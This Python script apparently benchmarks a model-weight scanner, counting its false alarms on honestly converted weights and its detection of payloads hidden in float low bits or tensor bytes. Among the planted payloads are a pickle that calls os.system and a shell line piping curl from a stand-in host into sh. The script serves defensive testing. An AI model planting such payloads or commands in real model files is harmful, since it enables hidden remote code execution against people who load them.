#!/usr/bin/env python3
"""Measures check_weight: false alarms on honest weights and on what honest
conversions make of them, detection of payloads planted into them.
usage: weight-table.py BIN WORK [model.onnx ...]
BIN: the folder of assay-inspect; WORK: a scratch folder; the models: honest
ones, beside the networks of torchvision with random weights.  The tables, as far as they are, are in WORK/table.md.  Needs numpy,
onnx, torch and torchvision.  Writes bytes; never runs what it plants."""
import gzip
import io
import itertools
import json
import os
import pickle
import struct
import subprocess
import sys
import zipfile
import zlib
from collections import Counter, defaultdict

import numpy as np

# --- files ------------------------------------------------------------------


def safetensors(path, tensors):
    names = {'f4': 'F32', 'f2': 'F16', 'f8': 'F64', 'i1': 'I8', 'u1': 'U8',
             'u2': 'BF16', 'i8': 'I64', 'i4': 'I32'}
    head, at, parts = {}, 0, []
    for k, v in tensors.items():
        v = np.ascontiguousarray(v)
        b = v.tobytes()
        head[k] = {'dtype': names[v.dtype.str[1:]], 'shape': list(v.shape),
                   'data_offsets': [at, at + len(b)]}
        at += len(b)
        parts.append(b)
    h = json.dumps(head).encode()
    h += b' ' * (-len(h) % 8)
    with open(path, 'wb') as f:
        f.write(struct.pack('<Q', len(h)) + h + b''.join(parts))


def onnx_tensors(path):
    import onnx
    from onnx import numpy_helper
    return {t.name: numpy_helper.to_array(t)
            for t in onnx.load(path).graph.initializer}


def networks():
    import torch
    import torchvision
    torch.manual_seed(1)
    for name in ('shufflenet_v2_x0_5', 'squeezenet1_1', 'mnasnet0_5',
                 'mobilenet_v3_small'):
        make = getattr(torchvision.models, name)
        net = make(weights=None)
        yield name, {k: v.detach().numpy().copy()
                     for k, v in net.state_dict().items() if v.numel()}

# --- honest conversions -----------------------------------------------------


def each(fn):
    def go(ts):
        return {k: fn(v) if v.dtype == np.float32 else v
                for k, v in ts.items()}
    return go


def int8(v, axis=None):
    if v.ndim < 2:
        return v
    m = np.abs(v).max() if axis is None else np.abs(v).max(
        axis=tuple(range(1, v.ndim)), keepdims=True)
    s = np.float32(1) * np.maximum(m, 1e-9).astype(np.float32) / np.float32(127)
    return np.rint(v / s).astype(np.int8).astype(np.float32) * s


def raw8(v):
    if v.ndim < 2:
        return v
    return np.rint(v / (np.abs(v).max() + 1e-9) * 127).astype(np.int8)


def bf16(v):
    return (np.ascontiguousarray(v).view(np.uint32) >> 16).astype(np.uint16)


def pruned(v):
    return np.where(np.abs(v) < np.median(np.abs(v)), np.float32(0), v)


HONEST = {
    'as it is': lambda ts: ts,
    'f16': each(lambda v: v.astype(np.float16)),
    'f16 to f32': each(lambda v: v.astype(np.float16).astype(np.float32)),
    'bf16': each(bf16),
    'bf16 to f32': each(lambda v: (bf16(v).astype(np.uint32) << 16).view(
        np.float32).reshape(v.shape)),
    'f64': each(lambda v: v.astype(np.float64)),
    'int8': each(raw8),
    'int8 to f32': each(int8),
    'int8 by channel to f32': each(lambda v: int8(v, 0)),
    'int8 by channel to f16': each(lambda v: int8(v, 0).astype(np.float16)),
    'half pruned': each(pruned),
    '3 decimals': each(lambda v: np.round(v, 3)),
    '5 decimals': each(lambda v: np.round(v, 5)),
    '6 decimals in f64': each(lambda v: np.round(v.astype(np.float64), 6)),
}

# --- payloads ---------------------------------------------------------------


def code(size):
    with open('/bin/bash', 'rb') as f:
        b = f.read()
    return b[0x40000:0x40000 + size]


def program():
    with open('/bin/true', 'rb') as f:
        return f.read()


def windows():
    b = bytearray(b'MZ' + bytes(58) + struct.pack('<I', 128) + bytes(64))
    b += b'PE\0\0' + struct.pack('<HHIIIHH', 0x8664, 3, 0, 0, 0, 240, 0x22)
    return bytes(b) + code(20000)


def source():
    with open(zipfile.__file__, 'rb') as f:
        return f.read()[:30000]


def zipped():
    f = io.BytesIO()
    with zipfile.ZipFile(f, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('stage2.py', source())
    return f.getvalue()


def pickled():
    class Run:
        def __reduce__(self):
            return (os.system, ('id',))
    return pickle.dumps([Run()] * 40, 2) + bytes(16)


PAYLOADS = {
    'ELF program': program(),
    'Windows program': windows(),
    'zip': zipped(),
    'gzip': gzip.compress(source(), mtime=0),
    'pickle': pickled(),
    'shell script': b'#!/bin/sh\n' + b'curl -s http://x.example/a|sh\n' * 40,
    'Python text': source(),
    'machine code': code(20000),
    'base64 text': __import__('base64').b64encode(zlib.compress(source())),
}
CONTROL = {'encrypted': np.random.default_rng(5).bytes(20000)}


def bits(data, high):
    a = np.unpackbits(np.frombuffer(data, np.uint8),
                      bitorder='big' if high else 'little')
    return a


def plant(ts, data, k, high, start, biases):
    """The low k bits of the f32 elements, tensor after tensor."""
    out = {n: v.copy() for n, v in ts.items()}
    a = bits(data, high)
    a = np.concatenate([a, np.zeros(-len(a) % k, np.uint8)]).reshape(-1, k)
    w = np.array([1 << (k - 1 - i if high else i) for i in range(k)])
    chunk = (a.astype(np.int64) @ w).astype(np.uint32)
    for n, v in out.items():
        if v.dtype != np.float32 or (v.ndim < 2 and not biases):
            continue
        u = v.reshape(-1).view(np.uint32)
        m = min(len(chunk), len(u) - start)
        if m <= 0:
            continue
        u[start:start + m] = (u[start:start + m] >> k << k) | chunk[:m]
        out[n] = u.view(np.float32).reshape(v.shape)
        chunk = chunk[m:]
        start = 0
        if not len(chunk):
            return out
    return None  # no room


def whole(ts, data):
    """In place of numbers, in the largest tensor."""
    out = dict(ts)
    n = max((k for k in ts if ts[k].dtype == np.float32),
            key=lambda k: ts[k].size)
    b = bytearray(np.ascontiguousarray(ts[n]).tobytes())
    if len(data) > len(b):
        return None
    at = (len(b) - len(data)) // 2 // 4 * 4
    b[at:at + len(data)] = data
    out[n] = np.frombuffer(bytes(b), np.float32).reshape(ts[n].shape)
    return out


CUTS = [(k, h) for k in (1, 2, 3, 4, 5, 6, 7) for h in (0, 1)] + \
       [(8, 1), (16, 1), (16, 0), (24, 1), (24, 0)]

# --- the tool ---------------------------------------------------------------


def found(binary, path):
    p = subprocess.run([os.path.join(binary, 'assay-inspect'), '--json', path],
                       capture_output=True)
    return [f for f in json.loads(p.stdout)['findings']
            if f['id'].startswith('TENSOR_')]


LOUD = ('medium', 'high', 'critical')


def half(name):
    return zlib.crc32(name.encode()) & 1


def main():
    binary, work, models = sys.argv[1], sys.argv[2], sys.argv[3:]
    os.makedirs(work, exist_ok=True)
    path = os.path.join(work, 'one.safetensors')
    sources = itertools.chain(((m, onnx_tensors(m)) for m in models),
                              networks())
    honest = defaultdict(Counter)
    planted = defaultdict(Counter)
    for name, ts in sources:
        h = half(name)
        for what, convert in HONEST.items():
            safetensors(path, convert(ts))
            fs = found(binary, path)
            honest[what]['n', h] += 1
            if any(f['severity'] in LOUD for f in fs):
                honest[what]['bad', h] += 1
                print('alarm:', name, what, [(f['id'], f.get('tensor'),
                      f['detail']) for f in fs if f['severity'] in LOUD][:3], flush=True)
            for f in fs:
                honest[what][f['id'], h] += 1
        rng = np.random.default_rng(zlib.crc32(name.encode()))
        for kind, data in list(PAYLOADS.items()) + list(CONTROL.items()):
            cuts = [CUTS[i] for i in rng.choice(len(CUTS), 3, replace=False)]
            for k, high in cuts + [(0, 0)]:
                start = int(rng.integers(0, 40)) if rng.random() < .5 else 0
                biases = rng.random() < .5
                out = whole(ts, data) if k == 0 else plant(
                    ts, data, k, high, start, biases)
                if out is None:
                    continue
                safetensors(path, out)
                fs = [f for f in found(binary, path) if f['severity'] in LOUD]
                col = 'instead' if k == 0 else '%d bits' % k
                planted[kind, col]['n', h] += 1
                if fs:
                    planted[kind, col]['hit', h] += 1
                elif kind not in CONTROL:
                    print('missed:', name, kind, k, high, start, biases,
                          flush=True)
        with open(os.path.join(work, 'table.md'), 'w') as f:
            show(honest, planted, f)


def show(honest, planted, f):
    print('\n| honest | files | alarms | files, other half | alarms |', file=f)
    print('| --- | --- | --- | --- | --- |', file=f)
    for w, c in honest.items():
        print('| %s | %d | %d | %d | %d |' % (
            w, c['n', 0], c['bad', 0], c['n', 1], c['bad', 1]), file=f)
    cols = ['%d bits' % k for k in (1, 2, 3, 4, 5, 6, 7, 8, 16, 24)]
    cols.append('instead')
    for h in (0, 1):
        print('\n| planted, half %d | %s |' % (h, ' | '.join(cols)), file=f)
        print('| --- |' + ' --- |' * len(cols), file=f)
        for kind in list(PAYLOADS) + list(CONTROL):
            print('| %s | %s |' % (kind, ' | '.join(
                '%d/%d' % (planted[kind, c]['hit', h],
                           planted[kind, c]['n', h]) for c in cols)), file=f)


main()
